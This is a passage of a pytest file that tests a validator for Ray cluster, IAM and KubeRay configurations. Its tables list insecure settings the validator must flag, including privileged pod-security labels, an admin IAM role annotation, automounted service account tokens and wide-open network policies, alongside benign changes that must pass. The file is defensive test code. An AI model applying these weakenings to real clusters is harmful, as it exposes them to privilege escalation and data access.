    ("metadata.namespace", "kube-system", "NASI_NAMESPACE is"),
]
BESIDE: dict[str, list[Row]] = {
    "Namespace": [
        ('metadata.labels."pod-security.kubernetes.io/enforce"', "privileged"),
        ('metadata.labels."pod-security.kubernetes.io/enforce"', "baseline"),
        ("metadata.labels", GONE),
        ("metadata.name", "other", "NASI_NAMESPACE is"),
        ("kind", "Ingress"),
        ("kind", "RayService"),
        ("kind", ["Pod"]),
        ("kind", "Service"),
        ("kind", "Secret"),
    ],
    "ServiceAccount": [
        ("automountServiceAccountToken", True),
        ("secrets", [{"name": "x"}]),
        ("metadata.annotations", {"eks.amazonaws.com/role-arn": "arn:aws:iam::1:role/admin"}),
    ],
    "NetworkPolicy": [
        ("spec.ingress", [{}]),
        ("spec.egress", [{}]),
        ("spec.policyTypes", ["Ingress"]),
        ("spec.podSelector", {"matchLabels": {"nasi-ray/cluster": "other"}}, "CLUSTER_LABEL is"),
        ("spec.podSelector.matchLabels.x", "y"),
    ],
}


def rows() -> list[tuple[str, str | None, Row]]:
    """File, kind of object where it matters, and row, of all tables."""
    iam = "cluster/iam/{}-policy.json"
    tables: list[tuple[str, str | None, list[Row]]] = [
        ("ray-cluster.yaml", None, CLUSTER),
        ("cluster/security-group.json", None, SECURITY_GROUP),
        (iam.format("head"), None, HEAD_POLICY),
        (iam.format("worker"), None, WORKER_POLICY),
        (iam.format("train"), None, TRAIN_POLICY),
        (iam.format("run"), None, RUN_POLICY),
        (iam.format("trust"), None, TRUST_POLICY),
        ("cluster/kuberay/rayjob.yaml", "RayJob", RAY_JOB),
    ]
    for file, kind, at in (
        ("raycluster", "RayCluster", "spec"),
        ("rayjob", "RayJob", "spec.rayClusterSpec"),
    ):
        inside: list[Row] = [(f"{at}.{path}", *rest) for path, *rest in RAY_CLUSTER]
        tables.append((f"cluster/kuberay/{file}.yaml", kind, inside))
    for kind, table in BESIDE.items():
        file = "rayjob" if kind == "NetworkPolicy" else "raycluster"
        tables.append((f"cluster/kuberay/{file}.yaml", kind, table))
    return [(file, kind, row) for file, kind, table in tables for row in table]


@pytest.mark.parametrize(("file", "kind", "row"), rows())
def test_a_weakening_is_found_where_it_is(file: str, kind: str | None, row: Row) -> None:
    path, value, *message = row
    problems = problems_after(file, path, value, kind=kind)
    if message:
        check_told(problems, message[0])
    else:
        assert problems
        assert any(is_near(problem, path) for problem in problems), problems
    assert not any("\n" in problem for problem in problems)
    assert len(problems) <= 10, problems


FINE: list[Row] = [
    ("docker.run_options[+]", "--volume=/data/imagenet:/data/imagenet:ro"),
    ("docker.run_options[+]", "--volume=some_cache-1:/cache"),
    ("docker.run_options[+]", "--env=NASI_DATA=/data/sets"),
    ("docker.run_options[+]", "--shm-size=8g"),
    ("docker.run_options[+]", "--gpus=all"),
    (f"{START}[1]", f"{SAFE_START.replace('127.0.0.1', 'localhost')} --port=6379 {CONFIG}"),
    (
        WATCHER,
        "setsid nohup nasi-ray cluster watch-spot --address=$RAY_HEAD_IP:6379 "
        ">> /tmp/w.log 2>&1 < /dev/null &",
    ),
    ('file_mounts."/home/ray/.nasi"', "/home/someone/.config/nasi-token"),
    (f"{SPOT}.node_config.SubnetIds", ["subnet-1234abcd"]),
    (f'{SPOT}.labels."nasi-ray/use"', "search"),
    (f"{HEAD}.node_config.InstanceType", "m7i.2xlarge"),
    (f"{TRAIN}.node_config.BlockDeviceMappings[0].Ebs.VolumeSize", 1000),
    ("provider.use_internal_ips", True),
    ("max_workers", 25),
    ("metadata", GONE),
]


@pytest.mark.parametrize("row", FINE)
def test_what_a_user_may_change_passes(row: Row) -> None:
    assert problems_after("ray-cluster.yaml", row[0], row[1]) == []


@pytest.mark.parametrize(
    ("path", "value"),
    [
        (f"{POD}.volumes", [{"name": "sets", "persistentVolumeClaim": {"claimName": "sets"}}]),
        (f"{HEAD_POD}.volumes[+]", {"name": "sets", "emptyDir": {"sizeLimit": "9Gi"}}),
        (f"{MAIN}.volumeMounts", [{"name": "sets", "mountPath": "/data", "readOnly": True}]),
        (f"{HEAD_MAIN}.env[+]", {"name": "NASI_DATA", "value": "/data"}),
        (f"{POD}.nodeSelector", GONE),
        ("workerGroupSpecs[0].maxReplicas", 4),
    ],
)
def test_what_a_user_of_kubernetes_may_change_passes(path: str, value: Any) -> None:
    name = "cluster/kuberay/raycluster.yaml"
    assert problems_after(name, f"spec.{path}", value) == []
